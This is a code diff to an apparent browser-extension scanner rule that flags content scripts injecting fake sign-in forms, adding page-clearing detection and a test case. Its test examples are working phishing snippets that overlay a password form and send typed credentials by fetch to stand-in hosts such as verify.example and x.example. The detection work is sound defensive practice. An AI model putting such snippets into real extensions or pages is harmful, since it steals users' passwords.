@@ -1,8 +1,10 @@
 import {
   callsNamed,
   callsOf,
+  constant,
   pattern,
   readsNamed,
+  receiverOf,
   writesOf,
   apiPath,
   type ScriptFacts,
@@ -38,9 +40,10 @@ export const signInFormInPage = defineRule({
   remedy: 'Ask for passwords only in the extension’s own pages, or use the browser’s sign-in API.',
   check: checkScripts(function* ({ script, file, facts, hit }) {
     if (!runsInPages(facts, file.path) || !mentions(script, PASSWORD)) return;
-    for (const { value, whole } of first([...markups(script)], 200)) {
+    for (const { value, ...put } of first([...markups(script)], 200)) {
       const text = pattern(script, value);
       if (!PASSWORD.test(text)) continue;
+      const whole = put.whole || emptiesPage(script);
       const pressing = PRESSING.test(text) || mentions(script, PRESSING);
       const sends = sendingsOf(script).some(({ kind }) => kind === 'network');
       const covers = whole || COVERS.test(text);
@@ -81,6 +84,9 @@ export const signInFormInPage = defineRule({
         'const o = document.createElement("div"); o.style = "position:fixed;inset:0;z-index:9999"; o.innerHTML = "<form id=zz><h2>Session expired</h2><input name=u placeholder=Email><input name=p type=password><button>Sign in</button></form>"; document.body.append(o); o.querySelector("#zz").onsubmit = (e) => { const f = e.target; fetch("https://verify.example/a", { method: "POST", body: new URLSearchParams({ u: f.u.value, p: f.p.value }) }); };',
       ),
       contentExample(
+        'const d = document.createElement("div"); d.innerHTML = "<form><input name=u><input name=p type=password></form>"; document.body.replaceChildren(d); d.firstChild.onsubmit = (e) => { const { u, p } = e.target; fetch("https://x.example/p?" + u.value + p.value); };',
+      ),
+      contentExample(
         'const box = document.createElement("div"); box.innerHTML = \'<input name="email"><input type="password" name="pw">\'; box.onsubmit = () => { fetch("https://x.example/s", { method: "POST", body: new FormData(box.firstChild) }); }; document.body.append(box);',
       ),
       contentExample(
@@ -111,10 +117,24 @@ function sendsWhatIsTyped(script: ScriptFacts): boolean {
   return typed.size > 0 && leavesBy(script, typed, ['network', 'message']) !== undefined;
 }
 
+const PAGE = /^document\.(?:body|documentElement)$/;
+
+/** Whether a script takes all of a page away: what it puts there stands alone. */
+function emptiesPage(script: ScriptFacts): boolean {
+  return (
+    callsNamed(script, 'replaceChildren', 'replaceWith', 'remove').some((call) =>
+      PAGE.test(apiPath(script, receiverOf(script, call)) ?? ''),
+    ) ||
+    writesOf(script, 'innerHTML', 'textContent', 'innerText').some(
+      (write) => PAGE.test(apiPath(script, write.object) ?? '') && constant(script, write.value) === '',
+    )
+  );
+}
+
 /** Markup that is put into the page, and whether it takes the page's place. */
 function* markups(script: ScriptFacts): Generator<{ value: number; whole: boolean }> {
   for (const write of writesOf(script, 'innerHTML', 'outerHTML', 'srcdoc'))
-    yield { value: write.value, whole: /^document\.(body|documentElement)$/.test(apiPath(script, write.object) ?? '') };
+    yield { value: write.value, whole: PAGE.test(apiPath(script, write.object) ?? '') };
   for (const call of callsNamed(script, 'insertAdjacentHTML')) yield { value: call.args[1] ?? 0, whole: false };
   for (const call of callsNamed(script, 'append', 'prepend', 'html', 'createContextualFragment', 'parseFromString'))
     yield { value: call.args[0] ?? 0, whole: false };
